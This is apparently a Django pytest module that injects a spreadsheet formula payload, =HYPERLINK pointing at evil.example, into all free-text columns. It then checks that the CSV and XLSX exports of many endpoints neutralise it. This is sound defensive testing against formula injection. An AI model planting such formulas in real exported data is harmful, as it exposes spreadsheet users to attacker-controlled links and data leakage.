"""Every CSV and XLSX export neutralises spreadsheet formulas: hostile text in every text column comes out inert."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from typing import Any

import openpyxl
import pytest
from django.apps import apps
from django.core.management import call_command
from django.db import models, transaction
from django.db.models.functions import Cast, Concat, Left
from django.test import Client

from apps.accounts.models import User
from apps.accounts.services import token_issue

HOSTILE_APPS = ("geo", "people", "enterprises", "projects", "indicators", "prices", "society")
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")  # a negative number is a number, not a formula

API_EXPORTS = [
    "/api/persons/export",
    "/api/enterprises/export",
    "/api/enterprises/commitments/export",
    "/api/enterprises/power/export",
    "/api/enterprises/deliveries/export",
    "/api/hotline/tickets/export",
    "/api/projects/export",
    "/api/indicators/export",
    "/api/prices/export",
    "/api/society/schools/export",
    "/api/society/disputes/export",
]
PAGE_EXPORTS = [
    "/persons/export/",
    "/enterprises/export/",
    "/projects/export/",
    "/indicators/export/",
    "/prices/export/",
    "/society/schools/export/",
    "/society/disputes/export/",
]


def _text_fields(model: type[models.Model]) -> Iterator[models.Field]:
    unique_together = {name for group in model._meta.unique_together for name in group}
    for constraint in model._meta.constraints:
        unique_together |= set(getattr(constraint, "fields", ()) or ())
    for field in model._meta.concrete_fields:
        if not isinstance(field, models.CharField | models.TextField) or field.choices or field.primary_key:
            continue
        if field.unique or field.name in unique_together:
            continue  # identifiers (credit codes, keys) are validated on the way in and cannot hold a formula
        yield field


def _make_hostile() -> int:
    """Overwrite every free-text column of the exported apps with a formula that names its row."""
    changed = 0
    for label in HOSTILE_APPS:
        for model in apps.get_app_config(label).get_models():
            if model._meta.proxy or not model._meta.managed:
                continue
            updates: dict[str, Any] = {}
            for field in _text_fields(model):
                formula = Concat(models.Value('=HYPERLINK("http://evil.example/'), Cast("pk", models.TextField()),
                                 models.Value('","open")'), output_field=models.TextField())
                updates[field.attname] = Left(formula, field.max_length) if field.max_length else formula
            if updates:
                changed += model._base_manager.update(**updates)
    return changed


@pytest.fixture(scope="module")
def hostile_city(django_db_setup: Any, django_db_blocker: Any) -> Iterator[None]:
    # One demo city for the whole module, inside a transaction that is rolled back at the end.
    with django_db_blocker.unblock(), transaction.atomic():
        call_command("demo_city", persons=300, seed=7, no_progress=True, stdout=io.StringIO(),
                     only=["areas", "persons", "users", "enterprises", "projects", "indicators", "prices", "society"])
        assert _make_hostile() > 0
        yield
        transaction.set_rollback(True)


def _cells(response: Any, fmt: str) -> list[tuple[object, str]]:
    """(value, xlsx data type) of every cell below the header."""
    assert response.status_code == 200, response.content[:300]
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
        return [(v, "s") for row in rows[1:] for v in row]
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    return [(c.value, c.data_type) for row in sheet.iter_rows(min_row=2) for c in row]


def _assert_inert(cells: list[tuple[object, str]]) -> None:
    assert cells, "the export is empty: nothing was tested"
    texts = [v for v, _ in cells if isinstance(v, str)]
    live = [v for v in texts if v.startswith(DANGEROUS) and not PLAIN_NUMBER.fullmatch(v)]
    assert not live, live[:5]
    assert not [v for v, kind in cells if kind == "f"], "a formula cell in the workbook"
    assert any(v.startswith("'=HYPERLINK") for v in texts), "no hostile value reached this export"


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("url", API_EXPORTS)
def test_api_exports_neutralise_formulas(hostile_city: None, url: str, fmt: str) -> None:
    commander = User.objects.get(username="commander")
    client = Client(headers={"Authorization": f"Bearer {token_issue(user=commander, name='test')}"})
    _assert_inert(_cells(client.get(url, {"format": fmt}), fmt))


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("url", PAGE_EXPORTS)
def test_page_exports_neutralise_formulas(hostile_city: None, url: str, fmt: str) -> None:
    client = Client()
    client.force_login(User.objects.get(username="commander"))
    _assert_inert(_cells(client.get(url, {"format": fmt}), fmt))
